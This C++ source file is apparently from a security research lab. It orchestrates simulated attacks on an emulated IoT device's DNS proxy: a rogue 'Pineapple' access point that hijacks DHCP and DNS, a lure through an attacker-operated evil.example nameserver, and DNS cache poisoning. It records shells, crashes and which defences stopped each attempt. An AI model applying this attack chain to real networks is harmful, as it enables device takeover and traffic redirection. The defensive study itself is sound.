#include "src/attack/scenario.hpp"

#include "src/attack/battery.hpp"
#include "src/dns/record.hpp"
#include "src/loader/boot.hpp"
#include "src/net/dns_client.hpp"
#include "src/net/pineapple.hpp"
#include "src/net/resolver.hpp"
#include "src/util/log.hpp"

namespace connlab::attack {

namespace {

AttackResult BaseResult(const ScenarioConfig& config) {
  AttackResult result;
  result.arch = config.arch;
  result.prot = config.prot;
  result.version = config.version;
  result.technique = config.technique.value_or(
      exploit::TechniqueFor(config.arch, config.prot));
  result.defense = config.defense.Label();
  return result;
}

/// The victim: a fresh boot at the target seed, hardened with whatever the
/// scenario's defense policy retrofits.
util::Result<std::unique_ptr<loader::System>> BootVictim(
    const ScenarioConfig& config) {
  return config.defense.BootHardened(config.arch, config.prot,
                                     config.target_seed, config.exec);
}

/// The attacker's lab: a local copy of the stock `prot` firmware (always the
/// vulnerable build — that is what the attacker studies) profiled into the
/// scenario's volley. When the lab yields none (e.g. a stack canary defeats
/// extraction), the result reads "no exploit" with the reason.
std::optional<VolleyBattery> ArmAttacker(const ScenarioConfig& config,
                                         AttackResult* result) {
  auto battery =
      BuildVolleyBattery(config.arch, config.prot, config.local_seed,
                         {result->technique}, config.exec);
  if (!battery.ok()) {
    result->exploit_available = false;
    result->detail = battery.status().message();
    return std::nullopt;
  }
  result->exploit_available = true;
  result->probes = battery.value().probes;
  result->payload_bytes = battery.value().volleys[0].payload_bytes;
  result->labels = battery.value().volleys[0].labels;
  return std::move(battery).value();
}

/// Reads the victim's outcome, and why the exploit missed given what the
/// victim actually booted with: base protections plus whatever the
/// scenario's defense policy retrofits.
void Classify(const ScenarioConfig& config,
              const connman::ProxyOutcome& outcome, AttackResult* result) {
  result->kind = outcome.kind;
  result->detail = outcome.detail;
  result->shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
  result->crash = outcome.kind == connman::ProxyOutcome::Kind::kCrash;
  result->guest_steps = outcome.stop.steps;
  loader::ProtectionConfig victim_prot = config.prot;
  config.defense.Configure(victim_prot);
  result->failure =
      exploit::DiagnoseFailure(result->technique, victim_prot, result->kind);
}

}  // namespace

util::Result<AttackResult> RunControlledScenario(const ScenarioConfig& config) {
  AttackResult result = BaseResult(config);
  std::optional<VolleyBattery> battery = ArmAttacker(config, &result);
  if (!battery) return result;
  const Volley& volley = battery->volleys[0];
  result.response_bytes = volley.response_wire.size();

  // The victim: a different boot (fresh ASLR draw, fresh canary).
  CONNLAB_ASSIGN_OR_RETURN(auto target, BootVictim(config));
  connman::DnsProxy proxy(*target, config.version);
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd,
                           proxy.AcceptClientQuery(battery->query_wire));
  (void)fwd;
  Classify(config, proxy.HandleServerResponse(volley.response_wire), &result);
  return result;
}

util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config) {
  RemoteResult remote;
  remote.attack = BaseResult(config);

  // --- The legitimate environment ----------------------------------------
  net::Network network;
  // The scenario reports the wire size of the final response, so capture
  // the (small, bounded) traffic of this one exchange.
  network.EnableCapture();
  net::Radio radio;
  net::LegitDnsServer legit_dns("192.168.1.53");
  legit_dns.AddRecord("updates.vendor.example", "93.184.216.34");
  legit_dns.AddRecord("time.vendor.example", "93.184.216.35");
  network.Attach(legit_dns.ip(), &legit_dns);
  net::AccessPoint home_ap(
      "HomeWiFi", /*signal_dbm=*/-60,
      net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
  radio.AddAp(&home_ap);

  // --- The victim IoT device ----------------------------------------------
  CONNLAB_ASSIGN_OR_RETURN(auto firmware, BootVictim(config));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));

  // Sanity: resolution through the legitimate chain works.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "updates.vendor.example"));
  (void)txid;
  network.DeliverAll();
  remote.benign_resolution_before =
      !victim.outcomes().empty() &&
      victim.outcomes().back().kind == connman::ProxyOutcome::Kind::kParsedOk;

  // --- The attacker ---------------------------------------------------------
  std::optional<VolleyBattery> battery = ArmAttacker(config, &remote.attack);
  if (!battery) return remote;
  net::Pineapple pineapple("HomeWiFi", /*signal_dbm=*/-30);
  pineapple.Arm(battery->volleys[0].label_seq);
  pineapple.PowerOn(radio, network);

  // The victim roams to the stronger beacon; DHCP renumbers it onto the
  // rogue subnet with the attacker's DNS. No config change on the device.
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  remote.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();

  // Its next ordinary lookup is the compromise.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid2,
                           victim.Lookup(network, "time.vendor.example"));
  (void)txid2;
  network.DeliverAll();
  remote.queries_intercepted = pineapple.dns().queries_seen();

  if (victim.outcomes().empty()) {
    remote.attack.detail = "no response processed; " +
                           pineapple.dns().last_error();
    return remote;
  }
  Classify(config, victim.outcomes().back(), &remote.attack);
  remote.attack.response_bytes =
      network.log().empty() ? 0 : network.log().back().payload.size();
  return remote;
}

util::Result<LureResult> RunLureScenario(const ScenarioConfig& config) {
  LureResult result;
  result.attack = BaseResult(config);

  // The victim's own network: home AP + a forwarding resolver that serves
  // the local zone and forwards anything under evil.example to its
  // "authoritative" server — which the attacker operates.
  net::Network network;
  // As in the Pineapple scenario: the wire size reported is that of the
  // response the victim processed, the last datagram of the exchange.
  network.EnableCapture();
  net::Radio radio;
  net::ForwardingResolver resolver("192.168.1.53");
  resolver.AddRecord("updates.vendor.example", "93.184.216.34");
  network.Attach(resolver.ip(), &resolver);
  net::AccessPoint home_ap(
      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", resolver.ip()));
  radio.AddAp(&home_ap);

  CONNLAB_ASSIGN_OR_RETURN(auto firmware, BootVictim(config));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  result.on_legitimate_network = victim.lease().dns_server == resolver.ip();

  // The attacker's infrastructure: the authoritative server for
  // evil.example, armed with the exploit.
  std::optional<VolleyBattery> battery = ArmAttacker(config, &result.attack);
  if (!battery) return result;
  net::FakeDnsServer evil_ns("203.0.113.66", net::FakeDnsServer::Mode::kDos);
  evil_ns.Arm(battery->volleys[0].label_seq);
  network.Attach(evil_ns.ip(), &evil_ns);
  resolver.AddDelegation("evil.example", evil_ns.ip());

  // The lure: some app on the device is induced to resolve the attacker's
  // domain (a link, an ad, a tracker URL). One ordinary lookup suffices.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "cdn.evil.example"));
  (void)txid;
  network.DeliverAll();
  result.forwarded = resolver.forwarded();

  if (victim.outcomes().empty()) {
    result.attack.detail = "no response processed; " + evil_ns.last_error();
    return result;
  }
  Classify(config, victim.outcomes().back(), &result.attack);
  result.attack.response_bytes =
      network.log().empty() ? 0 : network.log().back().payload.size();
  return result;
}

util::Result<PoisonResult> RunCachePoisoningScenario(const ScenarioConfig& config) {
  PoisonResult result;

  net::Network network;
  net::Radio radio;
  net::LegitDnsServer legit_dns("192.168.1.53");
  legit_dns.AddRecord("c2.vendor.example", "93.184.216.34");
  network.Attach(legit_dns.ip(), &legit_dns);
  net::AccessPoint home_ap(
      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
  radio.AddAp(&home_ap);

  CONNLAB_ASSIGN_OR_RETURN(
      auto firmware,
      loader::Boot(config.arch, config.prot, config.target_seed, config.exec));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));

  // The Pineapple in benign-forgery mode: spec-valid responses, attacker
  // address. Nothing here trips even a fully patched parser.
  net::Pineapple pineapple("HomeWiFi", -30);
  pineapple.set_dns_mode(net::FakeDnsServer::Mode::kBenign);
  pineapple.PowerOn(radio, network);
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  result.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();

  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "c2.vendor.example"));
  (void)txid;
  network.DeliverAll();
  result.answers_forged = pineapple.dns().payloads_sent();

  const auto hits =
      victim.proxy().cache().Lookup("c2.vendor.example", victim.proxy().now() + 1);
  for (const connman::CacheEntry& entry : hits) {
    auto ip = dns::FormatIPv4(entry.rdata);
    if (ip.ok()) {
      result.victim_resolves_to = ip.value();
      result.cache_poisoned = ip.value() != "93.184.216.34";
    }
  }
  return result;
}

}  // namespace connlab::attack
